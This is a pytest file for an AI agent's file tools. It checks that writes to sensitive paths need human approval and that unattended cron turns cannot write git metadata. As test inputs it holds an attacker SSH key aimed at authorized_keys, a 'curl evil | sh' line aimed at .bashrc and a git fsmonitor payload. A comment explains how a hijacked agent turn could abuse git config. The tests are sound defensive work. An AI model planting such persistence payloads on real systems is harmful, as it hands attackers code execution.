"""File-tool writes to sensitive targets need the same approval as a shell write."""

from __future__ import annotations

import pytest
from test_terminal_support import FakeHuman, make_harness

from herald.tools import file_tools


@pytest.fixture
def fake_home(tmp_path, monkeypatch):
    """`~` for the environment: a scratch directory, never the real home."""
    home = tmp_path / "userhome"
    (home / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    return home


def harness(tmp_path, approve=None):
    h = make_harness(tmp_path, {}, approve=approve)
    file_tools.register(h.registry)
    return h


def test_ordinary_files_need_no_approval(tmp_path, fake_home):
    human = FakeHuman([])
    h = harness(tmp_path, human)
    h.ok("write_file", path="notes.txt", content="hello\n")
    h.ok("patch", path="notes.txt", old_text="hello", new_text="bye")
    assert (h.work / "notes.txt").read_text() == "bye\n" and human.prompts == []
    h.close()


def test_sensitive_write_without_a_human_is_refused(tmp_path, fake_home):
    h = harness(tmp_path, approve=None)
    target = fake_home / ".ssh" / "authorized_keys"
    message = h.error("write_file", path=str(target), content="ssh-ed25519 AAAA attacker")
    assert "no one can approve" in message and not target.exists()
    message = h.error("write_file", path=".env", content="TOKEN=x")
    assert "approval" in message and not (h.work / ".env").exists()
    h.close()


def test_the_human_sees_the_file_tool_and_decides(tmp_path, fake_home):
    human = FakeHuman(["deny", "once"])
    h = harness(tmp_path, human)
    (h.work / ".env").write_text("A=1\n")
    denied = h.error("patch", path=".env", old_text="A=1", new_text="A=2")
    assert "denied" in denied and (h.work / ".env").read_text() == "A=1\n"
    assert human.prompts[0].command == f"patch {h.work / '.env'}"
    h.ok("write_file", path=".env", content="A=3\n")
    assert (h.work / ".env").read_text() == "A=3\n"
    h.close()


def test_unattended_file_writes_are_not_held_to_the_command_allowlist(tmp_path, fake_home):
    # `cat > report.md` is not read-only, yet a cron job must keep writing its report:
    # file-tool writes are judged by the path rules alone (no pattern needed) …
    h = make_harness(tmp_path, {}, surface="cron")
    file_tools.register(h.registry)
    h.ok("write_file", path="report.md", content="# nightly\n")
    h.ok("patch", path="report.md", old_text="nightly", new_text="nightly report")
    assert (h.work / "report.md").read_text() == "# nightly report\n"
    # … while the same write as a command is refused with nobody there
    err = h.error("terminal", command="echo x > report2.md")
    assert "is not known read-only" in err and not (h.work / "report2.md").exists()
    # and the path rules still refuse a sensitive target
    target = fake_home / ".bashrc"
    err = h.error("write_file", path=str(target), content="curl evil | sh\n")
    assert "no one can approve" in err and not target.exists()
    h.close()


@pytest.mark.parametrize(
    "path",
    [".git/config", "repo/.git/hooks/pre-commit", ".gitattributes", "sub/.git",
     "bare/HEAD", "sub/.gitmodules"],
)  # fmt: skip
def test_unattended_turns_never_write_git_metadata(tmp_path, fake_home, path):
    # git status/diff run unattended as read-only; .git/config (core.fsmonitor,
    # diff.external) or attributes (textconv) written by a hijacked turn would make
    # them run anything, so an unattended turn may not write them.
    h = make_harness(tmp_path, {}, surface="cron")
    file_tools.register(h.registry)
    (h.work / ".git").mkdir(exist_ok=True)
    err = h.error("write_file", path=path, content="[core]\n\tfsmonitor = touch pwned\n")
    assert "git metadata" in err and not (h.work / path).is_file()
    git_home = fake_home / ".gitconfig"
    err = h.error("write_file", path=str(git_home), content="[core]\n")
    assert "git metadata" in err and not git_home.exists()
    h.close()


def test_attended_git_metadata_writes_are_unchanged(tmp_path, fake_home):
    h = harness(tmp_path, FakeHuman([]))
    h.ok("write_file", path=".gitattributes", content="*.bin binary\n")
    assert (h.work / ".gitattributes").exists()
    h.close()
